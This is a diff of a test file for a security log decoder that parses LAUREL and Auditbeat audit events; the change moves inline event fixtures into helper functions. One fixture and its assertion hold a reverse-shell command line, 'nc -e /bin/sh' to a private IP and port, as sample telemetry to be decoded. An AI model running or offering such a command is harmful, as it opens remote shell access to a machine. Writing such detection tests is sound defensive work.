@@ -12,6 +12,7 @@ import { RecordError } from '../../src/core/errors.js';
 import type { Event } from '../../src/events/event.js';
 import { RecordDecoder, type Decoded } from '../../src/serve/decode.js';
 import type { IngestProtocol, IngestRecord } from '../../src/serve/record.js';
+import { auditbeatNc, laurelCurl } from '../readers/shipper-docs.js';
 
 /** A Sysmon for Linux event as SysmonForLinux's outputxml.cpp writes it (one line, no namespace). */
 function sysmonXml(id: number, data: Record<string, string>, host: string): string {
@@ -78,30 +79,7 @@ describe('serve: the record decoder reads Sysmon for Linux, journald, LAUREL and
 
   it('LAUREL and Auditbeat documents through the bulk API: the records and the derived process start', () => {
     const d = new RecordDecoder();
-    const laurel = events(
-      decode(d, 'elastic', {
-        ID: '1709287200.250:4711',
-        SYSCALL: {
-          arch: '0xc000003e',
-          syscall: 59,
-          success: 'yes',
-          exit: 0,
-          ppid: 1500,
-          pid: 1501,
-          auid: 1000,
-          uid: 0,
-          euid: 0,
-          ses: 7,
-          comm: 'curl',
-          exe: '/usr/bin/curl',
-          ARCH: 'x86_64',
-          SYSCALL: 'execve',
-        },
-        EXECVE: { argc: 3, ARGV: ['curl', '-o', '/tmp/a%20b'] },
-        CWD: { cwd: '/root' },
-        PATH: [{ item: 0, name: '/usr/bin/curl', nametype: 'NORMAL' }],
-      }),
-    );
+    const laurel = events(decode(d, 'elastic', laurelCurl()));
     assert.deepEqual(
       laurel.map((e) => e.fields.type ?? e.channel),
       ['SYSCALL', 'EXECVE', 'CWD', 'PATH', 'linux/auditd/process_creation'],
@@ -109,23 +87,7 @@ describe('serve: the record decoder reads Sysmon for Linux, journald, LAUREL and
     const lp = laurel.at(-1)!;
     assert.deepEqual([lp.fields.Image, lp.fields.CommandLine, lp.fields.CurrentDirectory, lp.fields.Derived], ['/usr/bin/curl', 'curl -o /tmp/a b', '/root', 'auditd']);
 
-    const beat = events(
-      decode(d, 'elastic', {
-        '@timestamp': '2024-03-01T10:00:00.250Z',
-        host: { name: 'app1' },
-        event: { module: 'auditd', action: 'executed', category: ['process'] },
-        auditd: {
-          message_type: 'syscall',
-          sequence: 901,
-          result: 'success',
-          session: '7',
-          data: { syscall: 'execve', arch: 'x86_64', a0: '55d0', tty: 'pts0' },
-          paths: [{ name: '/usr/bin/nc', nametype: 'NORMAL', item: '0' }],
-        },
-        process: { pid: 77, parent: { pid: 70 }, executable: '/usr/bin/nc', name: 'nc', args: ['nc', '-e', '/bin/sh', '10.0.0.9', '4444'], working_directory: '/tmp' },
-        user: { id: '0', audit: { id: '1000' } },
-      }),
-    );
+    const beat = events(decode(d, 'elastic', auditbeatNc()));
     const bp = beat.find((e) => e.channel === 'linux/auditd/process_creation')!;
     assert.deepEqual([bp.computer, bp.fields.Image, bp.fields.CommandLine, bp.fields.CurrentDirectory, bp.fields.ProcessId], ['app1', '/usr/bin/nc', 'nc -e /bin/sh 10.0.0.9 4444', '/tmp', '77']);
     assert.deepEqual(d.flush(), []);
